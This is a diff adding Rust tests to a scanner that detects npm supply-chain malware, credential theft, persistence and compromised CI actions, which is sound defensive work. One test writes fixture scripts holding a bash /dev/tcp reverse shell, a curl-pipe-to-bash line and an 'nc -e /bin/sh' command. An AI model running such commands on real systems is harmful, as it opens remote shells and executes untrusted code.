+            .map(|f| (f.path.as_str(), f.line.unwrap_or(0), f.rule_id.as_str(), f.severity))
+            .collect();
+        found.sort_by_key(|f| (f.0, f.1));
+
+        // Semver, `npm:` aliases and `file:` paths stay quiet; specs naming an infected
+        // release are reported as the infected package
+        assert_eq!(
+            found,
+            vec![
+                ("git/package.json", 8, "package/git-dependency", Severity::Medium),
+                ("git/package.json", 9, "package/git-dependency", Severity::Medium),
+                ("git/package.json", 10, "package/infected-version", Severity::Critical),
+                ("tarball/package.json", 6, "package/url-dependency", Severity::Medium),
+                ("tarball/package.json", 7, "package/infected-version", Severity::Critical),
+            ]
+        );
+        let packages: Vec<_> = results.findings.iter().filter_map(|f| f.package.as_deref()).collect();
+        assert!(packages.contains(&"ngx-bootstrap@20.0.4"));
+        assert!(packages.contains(&"@ctrl/ngx-csv@6.0.2"));
+
+        println!("✓ Remote dependency spec test passed");
+    }
+
+    #[test]
+    fn test_refresh_rescans_changed_files() {
+        let root = std::env::temp_dir().join(format!("shk-refresh-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        std::fs::create_dir_all(&root).unwrap();
+        std::fs::write(root.join("a.sh"), "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n").unwrap();
+        std::fs::write(root.join("b.sh"), "curl -s https://example.com/x.sh | bash\n").unwrap();
+
+        let mut app = crate::app::App::new(Some(root.clone()), ScanConfig::default()).unwrap();
+        let wait = |app: &mut crate::app::App| {
+            while app.check_scan_complete().is_none() {
+                std::thread::sleep(std::time::Duration::from_millis(10));
+            }
+        };
+        let files = |app: &crate::app::App| {
+            let mut files: Vec<String> = app
+                .scan_results
+                .as_ref()
+                .unwrap()
+                .findings
+                .iter()
+                .map(|f| Path::new(&f.path).file_name().unwrap().to_string_lossy().into_owned())
+                .collect();
+            files.dedup();
+            files
+        };
+
+        app.start_scan();
+        wait(&mut app);
+        assert!(app.last_scan.is_some());
+        assert_eq!(files(&app), vec!["a.sh", "b.sh"]);
+
+        // b.sh is cleaned up and c.sh dropped; a.sh keeps its findings unscanned
+        std::thread::sleep(std::time::Duration::from_millis(20));
+        std::fs::write(root.join("b.sh"), "echo fixed\n").unwrap();
+        std::fs::write(root.join("c.sh"), "nc -e /bin/sh 10.0.0.1 4444\n").unwrap();
+        app.refresh_changed();
+        assert!(app.is_refreshing());
+        wait(&mut app);
+
+        let mut refreshed = files(&app);
+        refreshed.sort();
+        assert_eq!(refreshed, vec!["a.sh", "c.sh"]);
+        assert!(!app.is_refreshing() && app.config.modified_since.is_none());
+
+        let _ = std::fs::remove_dir_all(&root);
+        println!("✓ Refresh changed files test passed");
+    }
+
+    #[test]
+    fn test_npm_api_abuse_detected() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/npm_api"), &config)
+            .expect("Scan should succeed");
+        let rules_in = |file: &str| -> Vec<(&str, Severity)> {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.path == file)
+                .map(|f| (f.rule_id.as_str(), f.severity))
+                .collect()
+        };
+
+        assert_eq!(
+            rules_in("inject.js"),
+            vec![("content/programmatic-install-via-npm-arborist", Severity::High)]
+        );
+        assert!(rules_in("republish.js")
+            .contains(&("sequence/programmatic-npm-publish-or-fetch-with-credential-access", Severity::High)));
+        // pacote without any credential access is ordinary tooling
+        assert!(rules_in("inspect.js").is_empty());
+
+        println!("✓ npm API abuse test passed");
+    }
+
+    #[test]
+    fn test_ioc_status() {
+        let results = scan_directory_sync(Path::new("test_samples/clean"), &ScanConfig::default())
+            .expect("Scan should succeed");
+        let json = serde_json::to_value(&results).unwrap();
+        assert_eq!(json["ioc_status"]["malicious_hashes"], MALICIOUS_HASHES.len());
+        assert_eq!(json["ioc_status"]["compromised_packages"], COMPROMISED_PACKAGES.len());
+        assert_eq!(json["ioc_status"]["problems"], serde_json::json!([]));
+
+        // Empty lists or a broken installed bundle degrade the dataset
+        let broken = crate::ioc::IocBundle {
+            load_error: Some("Invalid IOC bundle".to_string()),
+            ..Default::default()
+        };
+        let status = crate::ioc::dataset_status(0, 0, &broken);
+        assert!(status.degraded());
+        assert_eq!(status.problems.len(), 3);
+        assert!(status.problems[0].starts_with("malicious hash list is empty"));
+        assert!(status.problems[2].contains("Invalid IOC bundle"));
+
+        println!("✓ IOC status test passed");
+    }
+
+    #[test]
+    fn test_baseline_cannot_hide_critical() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let root = Path::new("test_samples/malicious");
+        let earlier = scan_directory_sync(root, &config).expect("Scan should succeed");
+        let critical = earlier.summary.critical;
+        assert!(critical > 0 && earlier.summary.total > critical);
+
+        // A baseline listing everything, as an attacker with write access would make it
+        let path = std::env::temp_dir().join(format!("shk-baseline-{}.json", std::process::id()));
+        std::fs::write(&path, serde_json::to_string(&earlier).unwrap()).unwrap();
+        let baseline = crate::baseline::Baseline::load(&path).expect("Baseline should load");
+
+        let mut results = scan_directory_sync(root, &config).expect("Scan should succeed");
+        let report = baseline.apply(&mut results, false);
+        assert_eq!(report.critical_kept, critical);
+        assert_eq!(report.suppressed, earlier.summary.total - critical);
+        assert_eq!(report.sha256.len(), 64);
+        assert_eq!(results.summary.total, critical);
+        assert!(results.findings.iter().all(|f| f.severity == Severity::Critical));
+
+        let mut results = scan_directory_sync(root, &config).expect("Scan should succeed");
+        let report = baseline.apply(&mut results, true);
+        assert_eq!(report.critical_suppressed, critical);
+        assert!(results.findings.is_empty());
+
+        let _ = std::fs::remove_file(&path);
+        println!("✓ Baseline critical test passed");
+    }
+
+    #[test]
+    fn test_baseline_applies_in_tui() {
+        let root = Path::new("test_samples/malicious");
+        let earlier = scan_directory_sync(root, &ScanConfig::default()).expect("Scan should succeed");
+        let critical = earlier.summary.critical;
+
+        let path = std::env::temp_dir().join(format!("shk-tui-baseline-{}.json", std::process::id()));
+        std::fs::write(&path, serde_json::to_string(&earlier).unwrap()).unwrap();
+
+        let mut app = crate::app::App::new(Some(root.to_path_buf()), ScanConfig::default()).unwrap();
+        app.baseline = Some(crate::baseline::Baseline::load(&path).expect("Baseline should load"));
+        app.start_scan();
+        while app.check_scan_complete().is_none() {
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+
+        // The TUI shows what headless mode would report, and says what it left out
+        let results = app.scan_results.as_ref().unwrap();
+        assert_eq!(results.summary.total, critical);
+        assert_eq!(results.baseline.as_ref().unwrap().suppressed, earlier.summary.total - critical);
+        assert!(app.status_message.as_deref().unwrap().starts_with("Baseline suppressed"));
+
+        let _ = std::fs::remove_file(&path);
+        println!("✓ TUI baseline test passed");
+    }
+
+    #[test]
+    fn test_finding_end_line() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+
+        let results = scan_directory_sync(Path::new("test_samples/workflow_block"), &config).expect("Scan should succeed");
+        let exfil = results
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "workflow/secret-exfiltration")
+            .expect("Should flag the curl inside the run block");
+        assert_eq!((exfil.line, exfil.end_line), (Some(16), Some(18)));
+
+        let sarif = crate::sarif::render(&results);
+        let regions: Vec<&serde_json::Value> = sarif["runs"][0]["results"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| &r["locations"][0]["physicalLocation"]["region"])
+            .collect();
+        assert!(regions.iter().any(|r| r["startLine"] == 16 && r["endLine"] == 18));
+
+        // The same command in an earlier step, without secrets, doesn't take the line
+        let results = scan_directory_sync(Path::new("test_samples/workflow_repeated"), &config).expect("Scan should succeed");
+        let exfil: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "workflow/secret-exfiltration")
+            .map(|f| (f.line, f.end_line))
+            .collect();
+        assert_eq!(exfil, vec![(Some(21), Some(22)), (Some(27), None)]);
+
+        let results = scan_directory_sync(Path::new("test_samples/docker"), &config).expect("Scan should succeed");
+        let run = results
+            .findings
+            .iter()
+            .find(|f| f.path == "Dockerfile" && f.line == Some(12))
+            .expect("Should flag the multi-line RUN");
+        assert_eq!(run.end_line, Some(14));
+
+        // Single-line findings leave it out of the JSON
+        let json = serde_json::to_value(&results).unwrap();
+        assert!(json["findings"].as_array().unwrap().iter().any(|f| f.get("end_line").is_none()));
+
+        println!("✓ Finding end_line test passed");
+    }
+
+    #[test]
+    fn test_python_credential_theft() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/python"), &config).expect("Scan should succeed");
+
+        let mut found: Vec<(&str, &str, Option<usize>)> = results
+            .findings
+            .iter()
+            .map(|f| (f.path.as_str(), f.rule_id.as_str(), f.line))
+            .collect();
+        found.sort();
+        assert_eq!(
+            found,
+            [
+                ("collect.py", "content/aws-credentials-file-access", Some(20)),
+                ("collect.py", "content/gcp-gcloud-config-directory-access", Some(21)),
+                ("collect.py", "content/python-boto3-credential-dump", Some(14)),
+                ("collect.py", "sequence/python-environment-dump-sent-over-http", Some(30)),
+            ]
+        );
+        assert!(results.findings.iter().all(|f| f.severity == Severity::High));
+        assert!(results.config.extensions.iter().any(|e| e == "py"));
+
+        println!("✓ Python credential theft test passed");
+    }
+
+    #[test]
+    fn test_finding_fingerprint() {
+        let root = Path::new("test_samples/malicious");
+        let relative = scan_directory_sync(root, &ScanConfig { relative_paths: true, ..Default::default() })
+            .expect("Scan should succeed");
+        let absolute = scan_directory_sync(&root.canonicalize().unwrap(), &ScanConfig::default())
+            .expect("Scan should succeed");
+
+        // Independent of where the tree lives and how paths are reported
+        let fingerprints = |results: &ScanResults| {
+            let mut all: Vec<String> = results.findings.iter().map(|f| f.fingerprint.clone()).collect();
+            all.sort();
+            all
+        };
+        assert_eq!(fingerprints(&relative), fingerprints(&absolute));
+
+        let first = &relative.findings[0];
+        assert_eq!(first.fingerprint.len(), 32);
+        assert!(first.fingerprint.chars().all(|c| c.is_ascii_hexdigit()));
+        let unique: std::collections::HashSet<_> = relative.findings.iter().map(|f| &f.fingerprint).collect();
+        assert_eq!(unique.len(), relative.findings.len());
+
+        let json = serde_json::to_value(&relative).unwrap();
+        assert_eq!(json["findings"][0]["fingerprint"], first.fingerprint.as_str());
+        let sarif = crate::sarif::render(&relative);
+        assert_eq!(sarif["runs"][0]["results"][0]["partialFingerprints"]["shk/v1"], first.fingerprint.as_str());
+
+        println!("✓ Finding fingerprint test passed");
+    }
+
+    #[test]
+    fn test_security_tooling_disabled() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/defense_evasion"), &config).expect("Scan should succeed");
+
+        let mut found: Vec<(&str, Option<usize>, &str)> = results
+            .findings
+            .iter()
+            .filter(|f| f.tags.iter().any(|t| t == "defense-evasion"))
+            .map(|f| (f.path.as_str(), f.line, f.rule_id.as_str()))
+            .collect();
+        found.sort();
+        assert_eq!(
+            found,
+            [
+                ("cleanup.js", Some(5), "content/security-tooling-config-deleted"),
+                ("cleanup.js", Some(6), "content/security-package-uninstalled"),
+                ("disable.sh", Some(4), "content/npm-audit-or-ignore-scripts-disabled"),
+                ("disable.sh", Some(5), "content/npm-audit-or-ignore-scripts-disabled"),
+                ("disable.sh", Some(6), "content/security-package-uninstalled"),
+                ("disable.sh", Some(7), "content/security-tooling-config-deleted"),
+                ("package.json", Some(5), "content/security-package-uninstalled"),
+            ]
+        );
+        // --no-audit, ordinary uninstalls and removing a token-bearing .npmrc are routine
+        assert!(!results.findings.iter().any(|f| f.path == "maintenance.sh"));
+
+        println!("✓ Security tooling disabled test passed");
+    }
+
+    #[test]
+    fn test_ioc_lock() {
+        use crate::ioc::{IocBundle, IocLock};
+
+        let bundle = IocBundle::load(Path::new("test_samples/iocs/extra_signatures.json")).expect("Bundle should load");
+        assert_eq!(bundle.sha256.as_ref().map(String::len), Some(64));
+
+        let path = std::env::temp_dir().join(format!("shk-ioc-lock-{}.json", std::process::id()));
+        let _ = std::fs::remove_file(&path);
+        assert!(IocLock::read(&path).unwrap().is_none());
+        let lock = IocLock::of(&bundle);
+        lock.write(&path).unwrap();
+        let locked = IocLock::read(&path).unwrap().expect("Lock should exist");
+        assert_eq!(locked, lock);
+        assert_eq!(locked.ioc_version, IOC_VERSION);
+
+        // Same bundle passes, a different one (or none at all) doesn't
+        locked.verify(&bundle, &path).expect("Locked bundle should verify");
+        let other = IocBundle::load(Path::new("test_samples/iocs/custom_rules.json")).expect("Bundle should load");
+        let error = locked.verify(&other, &path).unwrap_err().to_string();
+        assert!(error.contains("doesn't match"), "{error}");
+        assert!(locked.verify(&IocBundle::default(), &path).is_err());
+
+        // A pinned version that isn't installed degrades to the embedded IOCs
+        let missing = IocBundle::load_version("shk-test-missing-version").expect("Missing version falls back");
+        let status = missing.status();
+        assert!(status.degraded());
+        assert!(status.problems[0].contains("shk-test-missing-version"));
+        locked.verify(&missing, &path).expect("Fallback is left to --require-iocs");
+        assert!(IocBundle::load_version("../iocs").is_err());
+
+        let _ = std::fs::remove_file(&path);
+        println!("✓ IOC lock test passed");
+    }
+
+    #[test]
+    fn test_severity_filter_toggle() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let total = results.findings.len();
+        let mut app = crate::app::App::new(Some("test_samples".into()), config).unwrap();
+        app.scan_results = Some(results.clone());
+        app.state = crate::app::AppState::Results;
+        assert_eq!(app.visible_findings().len(), total);
+
+        // Criticals only: everything else hidden, the results untouched
+        for severity in [Severity::High, Severity::Medium, Severity::Low, Severity::Info] {
+            app.toggle_severity(severity);
+        }
+        let visible = app.visible_findings();
+        assert_eq!(visible.len(), results.summary.critical);
+        assert!(visible.iter().all(|&i| results.findings[i].severity == Severity::Critical));
+        assert!(visible.contains(&app.selected_finding));
+        assert_eq!(app.scan_results.as_ref().unwrap().findings.len(), total);
+
+        // Navigation and rows skip hidden findings
+        app.select_finding(visible[0]);
+        app.results_down();
+        assert_eq!(app.selected_finding, visible[1]);
+        app.results_up();
+        assert_eq!(app.selected_finding, visible[0]);
+        assert_eq!(crate::ui::finding_at_row(&app, app.finding_height(visible[0])), Some(visible[1]));
+        let hidden = (0..total).find(|i| !visible.contains(i)).unwrap();
+        assert_eq!(app.finding_height(hidden), 0);
+        app.select_finding(hidden);
+        assert_eq!(app.selected_finding, visible[0]);
+
+        // Widening again restores the full list
+        app.toggle_severity(Severity::High);
+        assert_eq!(app.visible_findings().len(), results.summary.critical + results.summary.high);
+        assert_eq!(app.status_message.as_deref(), Some("HIGH findings shown"));
+
+        println!("✓ Severity filter toggle test passed");
+    }
+
+    #[test]
+    fn test_override_forces_infected_version() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/forced_override"), &config)
+            .expect("Scan should succeed");
+
+        let mut forced: Vec<(&str, Option<usize>, &str)> = results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "package/forced-infected-version")
+            .map(|f| (f.path.as_str(), f.line, f.package.as_deref().unwrap()))
+            .collect();
+        forced.sort();
+        assert_eq!(
+            forced,
+            [
+                ("npm/package.json", Some(11), "@ctrl/tinycolor@4.1.1"),
+                ("npm/package.json", Some(17), "@art-ws/common@2.0.28"),
+                ("pnpm/package.json", Some(9), "@ctrl/tinycolor@4.1.2"),
+                ("yarn/package.json", Some(8), "ngx-bootstrap@20.0.4"),
+            ]
+        );
+        let nested = results.findings.iter().find(|f| f.line == Some(11)).unwrap();
+        assert_eq!(nested.severity, Severity::Critical);
+        assert!(nested.context.as_deref().unwrap().contains("whatever the declared ranges say"));
+        // Clean pins, `$name` references and safe versions stay quiet
+        assert!(!results.findings.iter().any(|f| f.severity == Severity::Critical && f.rule_id != "package/forced-infected-version"));
+
+        println!("✓ Forced infected override test passed");
+    }
+
+    #[test]
+    fn test_scanned_by_extension() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/docker"), &config).expect("Scan should succeed");
+        let counts = &results.scanned_by_extension;
+        assert_eq!(counts.values().sum::<usize>(), results.scanned_files);
+        assert!(counts.get("(none)").is_some_and(|&n| n > 0), "Dockerfile has no extension: {counts:?}");
+
+        let results = scan_directory_sync(Path::new("test_samples/workflow_block"), &config).expect("Scan should succeed");
+        assert_eq!(results.scanned_by_extension.get("yml"), Some(&1));
+        let json = serde_json::to_value(&results).unwrap();
+        assert_eq!(json["scanned_by_extension"]["yml"], 1);
+
+        let stdin = scan_content(Path::new("pkg/Index.JS"), b"console.log(1)", &config);
+        assert_eq!(stdin.scanned_by_extension, std::collections::BTreeMap::from([("js".to_string(), 1)]));
+
+        println!("✓ Scanned by extension test passed");
+    }
+
+    #[test]
+    fn test_shell_rc_and_crontab_persistence() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/persistence"), &config).expect("Scan should succeed");
+
+        let lines = |file: &str, rule_id: &str| {
+            let mut lines: Vec<usize> = results
+                .findings
+                .iter()
+                .filter(|f| f.path == file && f.rule_id == rule_id)
+                .filter_map(|f| f.line)
+                .collect();
+            lines.sort();
+            lines
+        };
+        assert_eq!(lines("install.sh", "content/shell-startup-file-modified"), [4, 5]);
+        assert_eq!(lines("install.sh", "content/crontab-entry-installed"), [6, 7]);
+        assert_eq!(lines("hook.js", "content/shell-startup-file-modified"), [6]);
+        assert_eq!(lines("hook.js", "content/crontab-entry-installed"), [7]);
+        assert_eq!(lines("persist.py", "content/shell-startup-file-modified"), [4]);
+        assert!(results
+            .findings
+            .iter()
+            .filter(|f| f.tags.iter().any(|t| t == "persistence"))
+            .all(|f| f.severity == Severity::High));
+
+        // Sourcing, grepping and `crontab -l` are not persistence
+        let edge = scan_directory_sync(Path::new("test_samples/edge_cases"), &config).expect("Scan should succeed");
+        assert!(!edge.findings.iter().any(|f| f.path == "shell_env_notes.sh"));
+
+        println!("✓ Shell rc and crontab persistence test passed");
+    }
+
+    #[test]
+    fn test_blame_annotation() {
+        use std::process::Command;
+
+        let root = std::env::temp_dir().join(format!("shk-blame-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        std::fs::create_dir_all(&root).unwrap();
+        std::fs::copy("test_samples/persistence/install.sh", root.join("install.sh")).unwrap();
+        let git = |args: &[&str]| {
+            let status = Command::new("git")
+                .arg("-C")
+                .arg(&root)
+                .args(["-c", "user.name=Mallory Example", "-c", "user.email=mallory@example.com"])
+                .args(args)
+                .env("GIT_AUTHOR_DATE", "2025-11-24T10:15:00+0100")
+                .status()
+                .expect("git should run");
+            assert!(status.success());
+        };
+        git(&["init", "-q"]);
+        git(&["add", "install.sh"]);
+        git(&["commit", "-q", "-m", "Add installer"]);
+
+        // An uncommitted line and an untracked file have nothing to blame
+        let mut script = std::fs::read_to_string(root.join("install.sh")).unwrap();
+        script.push_str("echo 'node agent.js' >> ~/.zshrc\n");
+        std::fs::write(root.join("install.sh"), script).unwrap();
+        std::fs::copy("test_samples/persistence/hook.js", root.join("hook.js")).unwrap();
+
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let mut results = scan_directory_sync(&root, &config).expect("Scan should succeed");
+        crate::blame::annotate(&mut results, &root);
+
+        let blame = |path: &str, line: usize| {
+            results
+                .findings
+                .iter()
+                .find(|f| f.path == path && f.line == Some(line))
+                .unwrap_or_else(|| panic!("No finding at {path}:{line}"))
+                .blame
+                .clone()
+        };
+        let committed = blame("install.sh", 4).expect("Committed line should be blamed");
+        assert_eq!(committed.author, "Mallory Example");
+        assert_eq!(committed.date, "2025-11-24T10:15:00+01:00");
+        assert_eq!(committed.commit.len(), 40);
+        assert!(blame("install.sh", 8).is_none());
+        assert!(blame("hook.js", 6).is_none());
+
+        let json = serde_json::to_value(&results).unwrap();
+        assert!(json["findings"].as_array().unwrap().iter().any(|f| f["blame"]["author"] == "Mallory Example"));
+
+        let _ = std::fs::remove_dir_all(&root);
+        println!("✓ Blame annotation test passed");
+    }
+
+    #[test]
+    fn test_manifest_scope_root_and_nested() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/nested_manifests"), &config)
+            .expect("Scan should succeed");
+        let nested = "tools/legacy/web/ui-kit/package.json";
+
+        // The same release in both manifests merges, keeping each manifest's scope
+        let csv = results.findings.iter()
+            .find(|f| f.package.as_deref() == Some("@ctrl/ngx-csv@6.0.2"))
+            .expect("Should flag @ctrl/ngx-csv in both manifests");
+        assert_eq!(csv.manifest_scope, Some(ManifestScope::Root));
+        let scopes: Vec<_> = csv.locations.iter().map(|l| (l.path.as_str(), l.manifest_scope)).collect();
+        assert_eq!(scopes, vec![
+            ("package.json", Some(ManifestScope::Root)),
+            (nested, Some(ManifestScope::Nested)),
+        ]);
+
+        // Only the deeply nested manifest has @ctrl/tinycolor
+        let tinycolor = results.findings.iter()
+            .find(|f| f.package.as_deref() == Some("@ctrl/tinycolor@4.1.1"))
+            .expect("Should flag @ctrl/tinycolor in the nested manifest");
+        assert_eq!(tinycolor.path, nested);
+        assert_eq!(tinycolor.manifest_scope, Some(ManifestScope::Nested));
+
+        let json = serde_json::to_value(&results).unwrap();
+        assert!(json["findings"].as_array().unwrap().iter().any(|f| f["manifest_scope"] == "nested"));
+
+        // Other findings don't come from a manifest
+        assert!(results.findings.iter()
+            .filter(|f| !matches!(f.finding_type, FindingType::CompromisedPackage))
+            .all(|f| f.manifest_scope.is_none()));
+
+        println!("✓ Manifest scope test passed");
+    }
+
+    #[test]
+    fn test_homedir_credential_paths() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/homedir_paths"), &config)
+            .expect("Scan should succeed");
+
+        let rule = "content/credential-path-built-from-the-home-directory";
+        let mut lines: Vec<(&str, Option<usize>)> = results.findings.iter()
+            .filter(|f| f.rule_id == rule)
+            .map(|f| (f.path.as_str(), f.line))
+            .collect();
+        lines.sort();
+        assert_eq!(lines, [
+            ("harvest.js", Some(8)),
+            ("harvest.js", Some(9)),
+            ("harvest.js", Some(10)),
+            ("harvest.js", Some(11)),
+            ("harvest.js", Some(12)),
+        ]);
+        assert!(results.findings.iter().filter(|f| f.rule_id == rule).all(|f| f.severity == Severity::High));
+
+        // App config and cache directories under the home directory are fine
+        assert!(results.findings.iter().all(|f| f.path != "settings.js"), "{:?}", results.findings);
+
+        println!("✓ Home directory credential path test passed");
+    }
+
+    #[test]
+    fn test_full_matched_line() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/long_lines"), &config)
+            .expect("Scan should succeed");
+        let at = |rule_id: &str, line: usize| {
+            results.findings.iter()
+                .find(|f| f.rule_id == rule_id && f.line == Some(line))
+                .unwrap_or_else(|| panic!("No {rule_id} finding at line {line}"))
+        };
+
+        // The context stops before the evidence; the matched line has it
+        let aws = at("content/aws-credentials-file-access", 6);
+        assert!(!aws.context.as_deref().unwrap().contains("~/.aws/credentials"));
+        let full = aws.matched_line.as_deref().expect("Long line should be kept whole");
+        assert!(full.starts_with("const targets = {") && full.ends_with("'~/.aws/credentials' };"));
+
+        // Masking applies to the whole line too
+        let key = at("content/embedded-ssh-private-key", 7);
+        let full = key.matched_line.as_deref().unwrap();
+        assert!(full.contains("[REDACTED]") && full.ends_with("};"));
+        assert!(!full.contains("b3BlbnNzaC1rZXktdjEAAAAA"), "Key body must not leak into matched_line");
+
+        // A huge line is capped
+        let blob = at("content/aws-credentials-file-access", 8);
+        assert_eq!(blob.matched_line.as_ref().unwrap().len(), 4_096 + "...".len());
+
+        // Short lines fit in the context already
+        let clean = scan_directory_sync(Path::new("test_samples/ssh_keys"), &config).expect("Scan should succeed");
+        assert!(clean.findings.iter().filter(|f| f.context.as_ref().is_some_and(|c| c.len() <= 100)).all(|f| f.matched_line.is_none()));
+
+        let sarif = crate::sarif::render(&results);
+        let snippets: Vec<&str> = sarif["runs"][0]["results"].as_array().unwrap().iter()
+            .filter_map(|r| r["locations"][0]["physicalLocation"]["region"]["snippet"]["text"].as_str())
+            .collect();
+        assert!(snippets.iter().any(|s| s.ends_with("'~/.aws/credentials' };")));
+        assert!(crate::markdown::render(&results).contains("src: '~/.aws/credentials' };"));
+
+        println!("✓ Full matched line test passed");
+    }
+
+    #[test]
+    fn test_compromised_workflow_actions() {
+        let path = Path::new("test_samples/workflow_actions");
+        let scan = |config: &ScanConfig| {
+            let results = scan_directory_sync(path, config).expect("Scan should succeed");
+            let mut found: Vec<(String, Severity, Option<usize>)> = results.findings.iter()
+                .filter(|f| f.rule_id.starts_with("workflow/"))
+                .map(|f| (f.rule_id.clone(), f.severity, f.line))
+                .collect();
+            found.sort_by_key(|(_, _, line)| *line);
+            found
+        };
+        let expected = |rule: &str, severity, line| (rule.to_string(), severity, Some(line));
+
+        // Tags and local actions are left alone
+        let mut found = vec![
+            expected("workflow/unpinned-action-ref", Severity::Medium, 11),
+            expected("workflow/compromised-action", Severity::Critical, 17),
+            expected("workflow/compromised-action", Severity::Critical, 18),
+            expected("workflow/unpinned-action-ref", Severity::Medium, 24),
+        ];
+        assert_eq!(scan(&ScanConfig::default()), found);
+
+        // IOC bundles can add actions
+        let bundle: crate::ioc::IocBundle = serde_json::from_str(
+            r#"{"compromised_actions": [{"name": "ACME/deploy-action", "refs": ["v2.1.0"]}]}"#,
+        ).unwrap();
+        let config = ScanConfig { iocs: bundle, ..Default::default() };
+        assert_eq!(config.iocs.status().compromised_actions, COMPROMISED_ACTIONS.len() + 1);
+        found.insert(3, expected("workflow/compromised-action", Severity::Critical, 19));
+        assert_eq!(scan(&config), found);
+
+        println!("✓ Compromised workflow actions test passed");
+    }
+
+    #[test]
+    fn test_progress_lines_throttled() {
+        use std::time::{Duration, Instant};
+
+        let start = Instant::now();
+        let mut last = None;
+        let mut line = |phase, current, total, after: u64| {
+            crate::progress_line(phase, current, total, &mut last, start + Duration::from_millis(after))
+        };
+
+        assert_eq!(line(ScanPhase::Collecting, 1, 0, 0).as_deref(), Some("Collecting files… 1 found"));
+        assert_eq!(line(ScanPhase::Collecting, 500, 0, 400), None);
+        assert_eq!(line(ScanPhase::Scanning, 10, 900, 999), None);
+        assert_eq!(line(ScanPhase::Scanning, 20, 900, 1000).as_deref(), Some("Scanned 20/900 files"));
+        assert_eq!(line(ScanPhase::Scanning, 30, 900, 1500), None);
+        // The final count always gets through
+        assert_eq!(line(ScanPhase::Scanning, 900, 900, 1600).as_deref(), Some("Scanned 900/900 files"));
+
+        println!("✓ Progress throttling test passed");
+    }
+
+    #[test]
+    fn test_progress_phases_in_order() {
+        use std::sync::{Arc, Mutex};
+
+        let events = Arc::new(Mutex::new(Vec::new()));
+        let recorded = Arc::clone(&events);
+        let callback: ProgressCallback = Box::new(move |phase, current, total, _file| {
+            recorded.lock().unwrap().push((phase, current, total));
+        });
+        let results = scan_directory_with_progress(Path::new("test_samples/malicious"), &ScanConfig::default(), callback)
+            .expect("Scan should succeed");
+        let events = events.lock().unwrap();
+        let files = results.scanned_files;
+        assert!(files > 1);
+
+        // Every file is found while collecting, then every file is scanned; the label
+        // never goes back to collecting once the total is known
+        let split = events.iter().position(|(phase, _, _)| *phase == ScanPhase::Scanning).unwrap();
+        let (collecting, scanning) = events.split_at(split);
+        assert!(collecting.iter().all(|(phase, _, total)| *phase == ScanPhase::Collecting && *total == 0));
+        assert_eq!(collecting.iter().map(|e| e.1).collect::<Vec<_>>(), (1..=files).collect::<Vec<_>>());
+        assert!(scanning.iter().all(|(phase, _, total)| *phase == ScanPhase::Scanning && *total == files));
+        assert_eq!(scanning.len(), files);
+        assert_eq!(scanning.iter().map(|e| e.1).max(), Some(files));
+
+        println!("✓ Progress phases test passed");
     }
 }